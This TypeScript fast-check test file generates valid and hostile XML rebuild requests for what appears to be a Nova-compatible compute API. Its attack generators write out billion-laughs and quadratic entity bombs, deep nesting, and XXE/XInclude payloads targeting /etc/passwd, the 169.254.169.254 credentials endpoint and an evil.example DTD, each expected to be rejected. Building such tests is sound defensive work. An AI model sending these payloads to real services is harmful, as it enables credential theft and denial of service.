/**
 * The seed's XML rebuild (Example 2.30) on the drop-in call: valid documents per microversion
 * with what Nova is to be sent, and hostile ones — entity bombs, external entities, deep
 * nesting, documents that are not well-formed, XML where it is not taken.
 */
import fc from 'fast-check';
import { DEFAULT_OPTIONS, SECRET_MARK } from '../harness.js';
import {
  type Body,
  NOVA_BOOLEAN_STRINGS,
  type ValidRequest,
  canonicalUuid,
  encodeSegment,
  imageRefArb,
  metadataKeyArb,
  microversionArb,
  novaName,
  objectOf,
  secretBase64,
  serverIdArb,
  stringOf,
  tenantArb,
  visibleChar,
} from './rebuild.js';
import type { RawRequest } from './requests.js';

const NS = 'http://docs.openstack.org/compute/api/v1.1';
const UUID = '70a599e0-31e7-49b7-b260-868f441e862b';
const SINGLE_PATH = `/v2/tenant-a/servers/${UUID}/action`;

/** XML escaping with the predefined entities only. */
export function escapeXml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&apos;');
}

/** XML escaping of every character as a numeric character reference, decimal or hexadecimal. */
export function charRefs(text: string, hex: boolean): string {
  return [...text].map((c) => (hex ? `&#x${(c.codePointAt(0) as number).toString(16)};` : `&#${c.codePointAt(0) as number};`)).join('');
}

export const xmlContentTypeArb = fc.constantFrom('application/xml', 'text/xml', 'application/xml; charset=UTF-8', 'TEXT/XML');

/** A string XML can carry and the parser keeps as is: printable, no whitespace at either end. */
const xmlText = (max: number) => novaName(max);

interface XmlField {
  name: string;
  value: string;
}

/** A valid seed call in XML at some microversion, with what Nova is to be sent. */
export const validXmlArb: fc.Arbitrary<ValidRequest & { xml: string }> = microversionArb(false).chain((mv) =>
  fc
    .record({
      tenant: tenantArb,
      server: serverIdArb,
      encodeSeed: fc.nat(),
      image: imageRefArb,
      imageAs: fc.constantFrom('attribute', 'element'),
      simple: fc.record(
        {
          name: xmlText(255),
          adminPass: stringOf(visibleChar, 0, 40).map((s) => `${SECRET_MARK}:${s}`),
          accessIPv4: fc.ipV4(),
          accessIPv6: fc.ipV6(),
          preserve_ephemeral: fc.constantFrom(...NOVA_BOOLEAN_STRINGS),
          'OS-DCF:diskConfig': fc.constantFrom('AUTO', 'MANUAL'),
        },
        { requiredKeys: [] },
      ),
      asElements: fc.array(fc.boolean(), { minLength: 6, maxLength: 6 }),
      newer: fc.record(
        {
          description: xmlText(255),
          key_name: xmlText(255),
          user_data: secretBase64(fc.integer({ min: 0, max: 300 })),
          hostname: mv.minor >= 94 ? stringOf(fc.constantFrom(...'abcdefghijklmnopqrstuvwxyz0123456789-._'), 1, 255) : fc.constantFrom('web-1', 'db01', 'a1'),
        },
        { requiredKeys: [] },
      ),
      // Keys with spaces at either end have their own property (xmlFidelityArb).
      metadata: fc.option(
        fc.uniqueArray(fc.tuple(metadataKeyArb.filter((k) => k.trim() === k), fc.oneof(fc.constant(''), xmlText(255))), { selector: ([k]) => k, maxLength: 5 }),
        { nil: undefined },
      ),
      personality: fc.option(fc.array(fc.tuple(xmlText(60).map((p) => `/etc/${p}`), secretBase64(fc.integer({ min: 0, max: 400 }))), { maxLength: 5 }), { nil: undefined }),
      prefix: fc.constantFrom('', 'c:'),
      declaration: fc.boolean(),
      contentType: xmlContentTypeArb,
    })
    .map((g) => {
      const p = g.prefix;
      const attrs: XmlField[] = [];
      const elements: string[] = [];
      const expected: [string, unknown][] = [];
      const put = (name: string, value: string, asElement: boolean) => {
        // An attribute name with a colon (OS-DCF:diskConfig) cannot be an element.
        if (asElement && !name.includes(':')) elements.push(`<${p}${name}>${escapeXml(value)}</${p}${name}>`);
        else attrs.push({ name, value });
        expected.push([name, value]);
      };
      put('imageRef', g.image.ref, g.imageAs === 'element');
      Object.entries(g.simple).forEach(([name, value], i) => put(name, value, g.asElements[i] ?? false));
      const newer = g.newer as Record<string, string>;
      if (mv.minor >= 19 && newer.description !== undefined) put('description', newer.description, true);
      if (mv.minor >= 54 && newer.key_name !== undefined) put('key_name', newer.key_name, true);
      if (mv.minor >= 57 && newer.user_data !== undefined) put('user_data', newer.user_data, true);
      if (mv.minor >= 90 && newer.hostname !== undefined) put('hostname', newer.hostname, true);
      if (g.metadata) {
        elements.push(`<${p}metadata>${g.metadata.map(([k, v]) => `<${p}meta key="${escapeXml(k)}">${escapeXml(v)}</${p}meta>`).join('')}</${p}metadata>`);
        expected.push(['metadata', objectOf(g.metadata)]);
      }
      if (g.personality && mv.minor <= 56) {
        // Base64 wrapped over lines as in the seed: the line breaks are layout.
        const files = g.personality.map(([path, contents]) => `<${p}file path="${escapeXml(path)}">\n  ${(contents.match(/.{1,48}/g) ?? []).join('\n  ')}\n</${p}file>`);
        elements.push(`<${p}personality>${files.join('')}</${p}personality>`);
        expected.push(['personality', g.personality.map(([path, contents]) => ({ path, contents }))]);
      }
      const nsDecl = p ? `xmlns:c="${NS}"` : `xmlns="${NS}"`;
      const attrText = attrs.map((a) => `${a.name}="${escapeXml(a.value)}"`).join('\n    ');
      const xml = `${g.declaration ? '<?xml version="1.0" encoding="UTF-8"?>\n' : ''}<${p}rebuild ${nsDecl}\n    ${attrText}>\n  ${elements.join('\n  ')}\n</${p}rebuild>`;
      const rebuild: Body = objectOf(expected);
      rebuild.imageRef = g.image.imageId;
      return {
        kind: 'single' as const,
        tenant: g.tenant,
        path: `/v2/${g.tenant}/servers/${encodeSegment(g.server.rendered, g.encodeSeed)}/action`,
        headers: { 'Content-Type': g.contentType, ...mv.headers },
        body: {},
        binary: false,
        minor: mv.minor,
        options: { microversion: `2.${mv.minor}`, ...DEFAULT_OPTIONS },
        expected: [{ serverId: g.server.id, rebuild }],
        servers: [{ id: g.server.id, rendered: g.server.rendered }],
        xml,
      };
    }),
);

/**
 * Attribute values XML defines exactly (section 3.3.3): character references stand for their
 * characters, and spaces at either end are part of the value. A metadata key may have them
 * (`^[a-zA-Z0-9-_:. ]{1,255}$`), and so may an adminPass.
 */
export const xmlFidelityArb: fc.Arbitrary<{ request: RawRequest; field: 'name' | 'metadata key' | 'adminPass'; value: string }> = fc.oneof(
  fc.tuple(xmlText(60), fc.boolean(), fc.boolean()).map(([name, hex, asElement]) => {
    const ref = charRefs(name, hex);
    const xml = asElement ? `<rebuild imageRef="${UUID}"><name>${ref}</name></rebuild>` : `<rebuild imageRef="${UUID}" name="${ref}"/>`;
    return { request: xmlRequest(xml), field: 'name' as const, value: name };
  }),
  fc.tuple(fc.constantFrom(' ', '  '), stringOf(fc.constantFrom(...'abcXYZ019-_:.'), 1, 20), fc.constantFrom('', ' ')).map(([before, key, after]) => ({
    request: xmlRequest(`<rebuild imageRef="${UUID}"><metadata><meta key="${before}${key}${after}">v</meta></metadata></rebuild>`),
    field: 'metadata key' as const,
    value: `${before}${key}${after}`,
  })),
  stringOf(visibleChar, 1, 20).map((p) => ({
    request: xmlRequest(`<rebuild imageRef="${UUID}" adminPass=" ${escapeXml(`${SECRET_MARK}:${p}`)} "/>`),
    field: 'adminPass' as const,
    value: ` ${SECRET_MARK}:${p} `,
  })),
);

// ---------------------------------------------------------------------------------------------
// Attacks

function xmlRequest(body: string | Buffer, path = SINGLE_PATH, contentType = 'application/xml'): RawRequest {
  return { method: 'POST', path, headers: { 'Content-Type': contentType }, body };
}

const doctypeKeyword = fc.constantFrom('<!DOCTYPE', '<!doctype', '<!DocType', '<!DOCTYPE\n');

export interface XmlAttack {
  request: RawRequest;
  status: number;
  what: string;
}

/** Entity expansion: `levels` entities each referring `width` times to the one below. */
const billionLaughs: fc.Arbitrary<XmlAttack> = fc
  .tuple(doctypeKeyword, fc.integer({ min: 2, max: 12 }), fc.integer({ min: 2, max: 12 }), fc.constantFrom('attribute', 'text'))
  .map(([doctype, levels, width, where]) => {
    const entities = Array.from({ length: levels }, (_, i) => (i === 0 ? '<!ENTITY l0 "lol">' : `<!ENTITY l${i} "${`&l${i - 1};`.repeat(width)}">`)).join('');
    const use = `&l${levels - 1};`;
    const root = where === 'attribute' ? `<rebuild imageRef="${UUID}" name="${use}"/>` : `<rebuild imageRef="${UUID}"><name>${use}</name></rebuild>`;
    return { request: xmlRequest(`<?xml version="1.0"?>${doctype} rebuild [${entities}]>${root}`), status: 400, what: `${width}^${levels} laughs` };
  });

/** External entities and DTDs: files, URLs, parameter entities. */
const externalEntity: fc.Arbitrary<XmlAttack> = fc
  .tuple(
    doctypeKeyword,
    fc.constantFrom('file:///etc/passwd', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'https://evil.example/x.dtd', 'expect://id', 'php://filter/resource=/etc/passwd'),
    fc.constantFrom('system', 'public', 'parameter', 'external-dtd'),
  )
  .map(([doctype, url, kind]) => {
    const dtd =
      kind === 'system'
        ? `${doctype} rebuild [<!ENTITY x SYSTEM "${url}">]>`
        : kind === 'public'
          ? `${doctype} rebuild [<!ENTITY x PUBLIC "-//E//x" "${url}">]>`
          : kind === 'parameter'
            ? `${doctype} rebuild [<!ENTITY % p SYSTEM "${url}"> %p;]>`
            : `${doctype} rebuild SYSTEM "${url}">`;
    return { request: xmlRequest(`<?xml version="1.0"?>\n${dtd}<rebuild imageRef="${UUID}" name="&x;" adminPass="${SECRET_MARK}:xxe"/>`), status: 400, what: `${kind} ${url}` };
  });

/** A quadratic blowup: one big entity used many times. */
const quadratic: fc.Arbitrary<XmlAttack> = fc.tuple(fc.integer({ min: 100, max: 20_000 }), fc.integer({ min: 10, max: 2000 })).map(([size, uses]) => ({
  request: xmlRequest(`<!DOCTYPE r [<!ENTITY a "${'a'.repeat(size)}">]><rebuild imageRef="${UUID}"><name>${'&a;'.repeat(uses)}</name></rebuild>`),
  status: 400,
  what: `${size}-character entity used ${uses} times`,
}));

/** Nesting past any honest document, at the root, inside the rebuild or inside its metadata. */
const deepXml: fc.Arbitrary<XmlAttack> = fc
  .tuple(fc.oneof(fc.integer({ min: 17, max: 200 }), fc.integer({ min: 200, max: 9000 }), fc.constantFrom(17, 1000, 9000)), fc.constantFrom('root', 'rebuild', 'metadata', 'name'), fc.constantFrom('a', 'rebuild', 'meta'))
  .map(([depth, where, tag]) => {
    const deep = `<${tag}>`.repeat(depth) + 'x' + `</${tag}>`.repeat(depth);
    const doc =
      where === 'root'
        ? deep
        : where === 'rebuild'
          ? `<rebuild imageRef="${UUID}">${deep}</rebuild>`
          : where === 'metadata'
            ? `<rebuild imageRef="${UUID}"><metadata>${deep}</metadata></rebuild>`
            : `<rebuild imageRef="${UUID}"><name>${deep}</name></rebuild>`;
    return { request: xmlRequest(doc), status: 400, what: `${tag} ${depth} deep in ${where}` };
  });

/** Things that are not a rebuild in XML: another action, XInclude, a document in UTF-16, XML on the bulk call, JSON labelled XML. */
const otherXml: fc.Arbitrary<XmlAttack> = fc.constantFrom<XmlAttack>(
  { request: xmlRequest('<reboot type="HARD"/>'), status: 400, what: 'another action' },
  { request: xmlRequest(`<rebuild imageRef="${UUID}"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></rebuild>`), status: 400, what: 'XInclude' },
  { request: xmlRequest(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<rebuild imageRef="${UUID}"/>`, 'utf16le')])), status: 400, what: 'UTF-16 with a BOM' },
  { request: xmlRequest(Buffer.from(`<rebuild imageRef="${UUID}"/>`, 'utf16le')), status: 400, what: 'UTF-16 without a BOM' },
  { request: xmlRequest(`<rebuild imageRef="${UUID}"/>`, '/v2/tenant-a/rebuild-jobs'), status: 415, what: 'XML on the bulk call' },
  { request: xmlRequest(`{"rebuild": {"imageRef": "${UUID}"}}`), status: 400, what: 'JSON labelled XML' },
  { request: xmlRequest(`<rebuild imageRef="${UUID}"><!-- <!DOCTYPE x> --></rebuild>`), status: 400, what: 'a DOCTYPE in a comment' },
  { request: xmlRequest(`<rebuild imageRef="${UUID}" ${Array.from({ length: 3000 }, (_, i) => `a${i}="x"`).join(' ')}/>`), status: 400, what: '3,000 unknown attributes' },
  { request: xmlRequest(`<rebuild imageRef="${UUID}"><metadata>${Array.from({ length: 129 }, (_, i) => `<meta key="k${i}">v</meta>`).join('')}</metadata></rebuild>`), status: 403, what: '129 metadata items' },
  { request: xmlRequest(''), status: 400, what: 'empty' },
);

export const xmlAttackArb: fc.Arbitrary<XmlAttack> = fc.oneof(billionLaughs, externalEntity, quadratic, deepXml, otherXml);

// ---------------------------------------------------------------------------------------------
// Not well-formed

/** Documents an XML parser must reject (XML 1.0, section 2): each breaks one well-formedness rule. */
export const notWellFormedArb: fc.Arbitrary<{ request: RawRequest; what: string }> = fc.oneof(
  // A valid document cut short.
  fc.tuple(validXmlArb, fc.nat()).map(([req, at]) => {
    const cut = at % req.xml.trimEnd().length;
    return { request: { method: 'POST', path: req.path, headers: req.headers, body: req.xml.slice(0, cut) }, what: `cut at ${cut} of ${req.xml.length}` };
  }),
  fc.constantFrom<[string, string]>(
    ['content after the root element', `<rebuild imageRef="${UUID}"/>garbage`],
    ['a second root element', `<rebuild imageRef="${UUID}"/><rebuild imageRef="${UUID}"/>`],
    ['an undefined entity', `<rebuild imageRef="${UUID}" name="&foo;"/>`],
    ['a bare ampersand', `<rebuild imageRef="${UUID}" name="a & b"/>`],
    ['a < in an attribute value', `<rebuild imageRef="${UUID}" name="a<b"/>`],
    ['a character reference to NUL', `<rebuild imageRef="${UUID}" name="x&#0;"/>`],
    ['a control character', `<rebuild imageRef="${UUID}" name="x\u0001"/>`],
    ['-- inside a comment', `<rebuild imageRef="${UUID}"><!-- a -- b --></rebuild>`],
    ['mismatched tags', `<rebuild imageRef="${UUID}"></rebuilds>`],
    ['an unquoted attribute', `<rebuild imageRef=${UUID}/>`],
    ['a duplicate attribute', `<rebuild imageRef="${UUID}" name="x" name="y"/>`],
    ['text before the root element', `text<rebuild imageRef="${UUID}"/>`],
    ['an unclosed CDATA section', `<rebuild imageRef="${UUID}"><![CDATA[ x </rebuild>`],
  ).map(([what, body]) => ({ request: xmlRequest(body), what })),
);

// ---------------------------------------------------------------------------------------------
// Random documents

const TAGS = ['rebuild', 'metadata', 'meta', 'personality', 'file', 'name', 'imageRef', 'adminPass', 'description', 'c:rebuild', 'x', 'user_data'];
const ATTRS = ['imageRef', 'name', 'adminPass', 'key', 'path', 'xmlns', 'xmlns:c', 'accessIPv4', 'OS-DCF:diskConfig', 'preserve_ephemeral', 'y'];

type Node = { tag: string; attrs: [string, string][]; children: (Node | string)[] };

const nodeArb: fc.Arbitrary<Node> = fc.letrec<{ node: Node; child: Node | string }>((tie) => ({
  node: fc.record({
    tag: fc.constantFrom(...TAGS),
    attrs: fc.uniqueArray(fc.tuple(fc.constantFrom(...ATTRS), fc.oneof(canonicalUuid, fc.string({ unit: 'grapheme', maxLength: 12 }))), { selector: ([k]) => k, maxLength: 3 }),
    children: fc.array(tie('child'), { maxLength: 4 }),
  }),
  child: fc.oneof({ depthSize: 'small', withCrossShrink: true }, fc.string({ unit: 'grapheme', maxLength: 12 }), tie('node')),
})).node;

function render(node: Node | string): string {
  if (typeof node === 'string') return escapeXml(node);
  const attrs = node.attrs.map(([k, v]) => ` ${k}="${escapeXml(v)}"`).join('');
  return `<${node.tag}${attrs}>${node.children.map(render).join('')}</${node.tag}>`;
}

/** Well-formed documents from the seed's vocabulary, in any arrangement. */
export const randomXmlArb: fc.Arbitrary<RawRequest> = nodeArb.map((root) => xmlRequest(render(root)));

/**
 * Shapes that cost a naive XML reader time out of proportion to their length (each was quadratic
 * somewhere once: unclosed processing instructions and comments, runs of "<" or "&", many
 * attributes or metadata items, deep nesting). Every one must be answered — refused or accepted —
 * within a small budget, up to the 64 KB cap.
 */
export const SLOW_XML_SHAPES = [
  'unclosed <?', 'unclosed <!--', 'closed comments', 'run of <', 'run of "<a "', 'many attributes', 'nested', 'run of &', 'run of &a',
  'character references', 'unclosed CDATA', 'long tag name', 'many metadata items',
] as const;

/** One slow shape, about `size` bytes (never over the 64 KB cap). */
export function slowXml(what: (typeof SLOW_XML_SHAPES)[number], size: number): { request: RawRequest; what: string } {
  const fill = (unit: string) => unit.repeat(Math.max(1, Math.floor(size / unit.length)));
  const body: Record<(typeof SLOW_XML_SHAPES)[number], string> = {
    'unclosed <?': fill('<?'),
    'unclosed <!--': fill('<!--'),
    'closed comments': `<rebuild imageRef="${UUID}">${fill('<!-- x -->')}</rebuild>`,
    'run of <': fill('<'),
    'run of "<a "': fill('<a '),
    'many attributes': `<rebuild imageRef="${UUID}" ${fill('a="b" ')}/>`,
    nested: `<rebuild>${fill('<a>')}${fill('</a>')}</rebuild>`,
    'run of &': `<rebuild name="${fill('&')}"/>`,
    'run of &a': `<rebuild name="&${fill('a')}"/>`,
    'character references': `<rebuild imageRef="${UUID}" name="${fill('&#x41;')}"/>`,
    'unclosed CDATA': `<rebuild><![CDATA[${fill(']]')}</rebuild>`,
    'long tag name': `<${fill('a')}>`,
    'many metadata items': `<rebuild imageRef="${UUID}"><metadata>${fill('<meta key="k">v</meta>')}</metadata></rebuild>`,
  };
  return { request: xmlRequest(body[what].slice(0, 64 * 1024)), what: `${what}, ${size} bytes` };
}

/** The slow shapes at random sizes, the cap itself often. */
export const slowXmlArb: fc.Arbitrary<{ request: RawRequest; what: string }> = fc
  .tuple(fc.constantFrom(...SLOW_XML_SHAPES), fc.oneof(fc.constant(64 * 1024 - 200), fc.integer({ min: 1024, max: 64 * 1024 - 200 })))
  .map(([what, size]) => slowXml(what, size));
